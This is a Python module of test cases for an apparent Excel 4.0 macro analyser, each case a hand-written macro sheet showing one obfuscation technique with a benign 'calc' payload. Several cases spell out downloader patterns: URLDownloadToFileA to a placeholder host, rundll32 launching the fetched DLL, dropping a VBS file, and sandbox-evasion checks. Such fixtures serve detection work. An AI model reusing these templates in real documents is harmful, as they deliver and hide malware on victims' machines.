"""Obfuscation techniques of Excel 4.0 macros, one case each: benign formulas and what they must come to.

Every case is written by hand after the technique's public description; addresses are reserved names.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Final

RUN: Final = "cmd /c calc"
URL: Final = "http://one.example/a.dll"


@dataclass(frozen=True)
class Case:
    """A technique.

    Attributes:
        cells: Of the macro sheet; a formula begins with ``=``.
        wanted: Texts that must be arguments of effects.
        said: Texts that must be among those seen.
    """

    name: str
    cells: dict[str, str | int]
    wanted: tuple[str, ...] = (RUN,)
    said: tuple[str, ...] = ()
    names: dict[str, str] = field(default_factory=lambda: {"auto_open": "Macro1!A1"})


def down(*formulas: str, column: str = "A") -> dict[str, str | int]:
    """Formulas one below the other."""
    return {f"{column}{row}": text for row, text in enumerate(formulas, 1)}


def chars(text: str) -> str:
    """``CHAR(99)&CHAR(109)…``."""
    return "&".join(f"CHAR({ord(one)})" for one in text)


CASES: Final = (
    Case("plain", down(f'=EXEC("{RUN}")', "=HALT()")),
    Case("characters", down(f"=EXEC({chars(RUN)})")),
    Case("characters-in-cells", {**{f"C{at}": f"=CHAR({ord(one)})" for at, one in enumerate(RUN, 1)}, **down("=EXEC(" + "&".join(f"C{at}" for at in range(1, len(RUN) + 1)) + ")")}),
    Case("concatenate", down('=EXEC(CONCATENATE("cmd"," /c ",B1))') | {"B1": "calc"}),
    Case("formula-writes-a-formula", down('=FORMULA("=EXEC("&CHAR(34)&"cmd /c calc"&CHAR(34)&")",A3)', "=ECHO(FALSE)")),
    Case("formula-fill", down(f'=FORMULA.FILL(CHAR(61)&"EXEC("&CHAR(34)&B1&CHAR(34)&")",Macro1!A5)') | {"B1": RUN}),
    Case("relative-style", down('=FORMULA("=EXEC(R[-1]C[1])",A4)', "=ECHO(FALSE)") | {"B3": RUN}),
    Case("mid", down("=EXEC(MID(B1,4,11))") | {"B1": f"xyz{RUN}zyx"}),
    Case("mid-letters", down("=EXEC(MID(B1,3,1)&MID(B1,13,1)&MID(B1,4,1)&B2)") | {"B1": "abcdefghijklmnop", "B2": "calc"}, ("cmdcalc",)),
    Case("goto-between-columns", {"A1": "=GOTO(D7)", "D7": "=GOTO(B3)", "B3": f'=EXEC("{RUN}")'}),
    Case("run-and-return", {"A1": "=RUN(C1)", "A2": "=EXEC(D1)", "C1": f'=SET.VALUE(D1,"{RUN}")', "C2": "=RETURN()"}),
    Case("run-by-text", {"A1": '=RUN("Macro1!C"&"4")', "C4": f'=EXEC("{RUN}")'}),
    Case("set-name", down('=SET.NAME("qz","cmd")', '=SET.NAME("qz",qz&" /c calc")', "=EXEC(qz)")),
    Case("define-name", down('=DEFINE.NAME("qz",B1)', "=EXEC(qz)") | {"B1": RUN}),
    Case("name-as-macro", {"A1": "=zq()", "E9": f'=EXEC("{RUN}")'}, names={"auto_open": "Macro1!A1", "zq": "Macro1!$E$9"}),
    Case("macro-with-arguments", {"A1": '=EXEC(zq("cmd","calc"))', "E1": '=ARGUMENT("a")', "E2": '=ARGUMENT("b")', "E3": '=RETURN(a&" /c "&b)'}, names={"auto_open": "Macro1!A1", "zq": "Macro1!E1"}),
    Case("while-loop", down('=SET.NAME("i",1)', "=WHILE(i<=LEN(B1))", '=SET.NAME("s",IF(i=1,"",s)&CHAR(CODE(MID(B1,i,1))-1))', '=SET.NAME("i",i+1)', "=NEXT()", "=EXEC(s)") | {"B1": "".join(chr(ord(one) + 1) for one in RUN)}),
    Case("for-loop", down('=FOR("i",11,1,-1)', "=SET.VALUE(D1,D1&MID(B1,i,1))", "=NEXT()", "=EXEC(D1)") | {"B1": RUN[::-1]}),
    Case("for-each-cell", {**down('=FOR.CELL("c",B1:B11)', "=SET.VALUE(D1,D1&CHAR(c))", "=NEXT()", "=EXEC(D1)"), **{f"B{at}": ord(one) for at, one in enumerate(RUN, 1)}}),
    Case("unknown-branch", down("=IF(GET.WINDOW(7),GOTO(A9),)", "=CLOSE(FALSE)") | {"A9": f'=EXEC("{RUN}")'}),
    Case("sandbox-check-guessed", down("=IF(GET.WORKSPACE(13)<770,CLOSE(TRUE),)", "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))", f'=EXEC("{RUN}")')),
    Case("sandbox-check-operating-system", down('=IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),GOTO(C1),HALT())') | {"C1": f'=EXEC("{RUN}")'}),
    Case("both-branches", down('=IF(DAY(NOW())=7,EXEC("cmd /c one"),EXEC("cmd /c two"))'), ("cmd /c one", "cmd /c two")),
    Case("if-block", down("=IF(1=2)", '=EXEC("no")', "=ELSE()", f'=EXEC("{RUN}")', "=END.IF()")),
    Case("arithmetic-codes", down("=EXEC(" + "&".join(f"CHAR({ord(one) * 3 + 6}/3-2)" for one in RUN) + ")")),
    Case("key-in-a-cell", {**{f"C{at}": f"=CHAR({ord(one) + 31}-$F$1)" for at, one in enumerate(RUN, 1)}, **down("=EXEC(" + "&".join(f"C{at}" for at in range(1, len(RUN) + 1)) + ")"), "F1": 31}),
    Case("exclusive-or", down("=EXEC(" + "&".join(f"CHAR(BITXOR({ord(one) ^ 42},42))" for one in RUN) + ")")),
    Case("hexadecimal", down("=EXEC(" + "&".join(f'CHAR(HEX2DEC("{ord(one):X}"))' for one in RUN) + ")")),
    Case("substitute", down(f'=EXEC(SUBSTITUTE("{"~".join(RUN)}","~",""))')),
    Case("offset-and-index", down("=EXEC(OFFSET(B1,2,1)&INDEX(E1:E3,2))") | {"C3": "cmd /c ", "E2": "calc"}),
    Case("indirect", down('=EXEC(INDIRECT("B"&3))') | {"B3": RUN}),
    Case("absolute-reference", down('=EXEC(ABSREF("R[1]C[1]",B2))') | {"C3": RUN}),
    Case("get-cell-contents", down("=EXEC(GET.CELL(5,C3))") | {"C3": RUN}),
    Case("evaluate", down('=EVALUATE("EXEC(""cmd /c calc"")")')),
    Case("register-and-call-by-name", down('=REGISTER("URLMON","URLDownloadToFileA","JJCCJJ","Zq",,1,9)', f'=Zq(0,"{URL}","C:\\a.dll",0,0)'), (URL, "C:\\a.dll")),
    Case("call", down(f'=CALL("URLMon","URLDownload"&"ToFileA","JJCCJJ",0,B1,"C:\\a.dll",0,0)') | {"B1": URL}, (URL, "C:\\a.dll")),
    Case("call-shell-execute", down('=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","C:\\Windows\\System32\\rundll32.exe","C:\\a.dll,DllRegisterServer",0,5)'), ("C:\\Windows\\System32\\rundll32.exe", "C:\\a.dll,DllRegisterServer")),
    Case("file-writes", down('=FOPEN("C:\\ProgramData\\a.vbs",3)', '=FWRITELN(A1,"MsgBox 1")', "=FCLOSE(A1)", '=EXEC("explorer C:\\ProgramData\\a.vbs")'), ("C:\\ProgramData\\a.vbs", "MsgBox 1")),
    Case("workbook-from-elsewhere", down(f'=OPEN("{URL}")'), (URL,)),
    Case("on-time", down('=ON.TIME(NOW()+"00:00:02","Macro1!C1")', "=HALT()") | {"C1": f'=EXEC("{RUN}")'}),
    Case("dynamic-data-exchange", down('=INITIATE("cmd","/c calc")')),
    Case("no-name-starts-it", {"C3": f'=EXEC("{RUN}")'}, names={}),
    Case("dead-cells", {"A1": f'=EXEC("{RUN}")', "A2": "=HALT()", "G9": '="http://"&"two.example"&"/b"'}, said=("http://two.example/b",)),
    Case("not-taken-branch", down('=IF(1=1,,FORMULA("http://"&"two.example",B1))', f'=EXEC("{RUN}")'), said=("two.example",)),
    Case("empty-cells-between", {"A1": '=SET.NAME("q","cmd /c calc")', "A900": "=EXEC(q)"}),
    Case("error-values", down('=IF(ISERROR(SEARCH("x","abc")),EXEC("cmd /c calc"),HALT())')),
    Case("long-join", down("=EXEC(" + "&".join(f'"{one}"' for one in RUN + " " * 400) + ")"), (RUN,)),
)  # fmt: skip
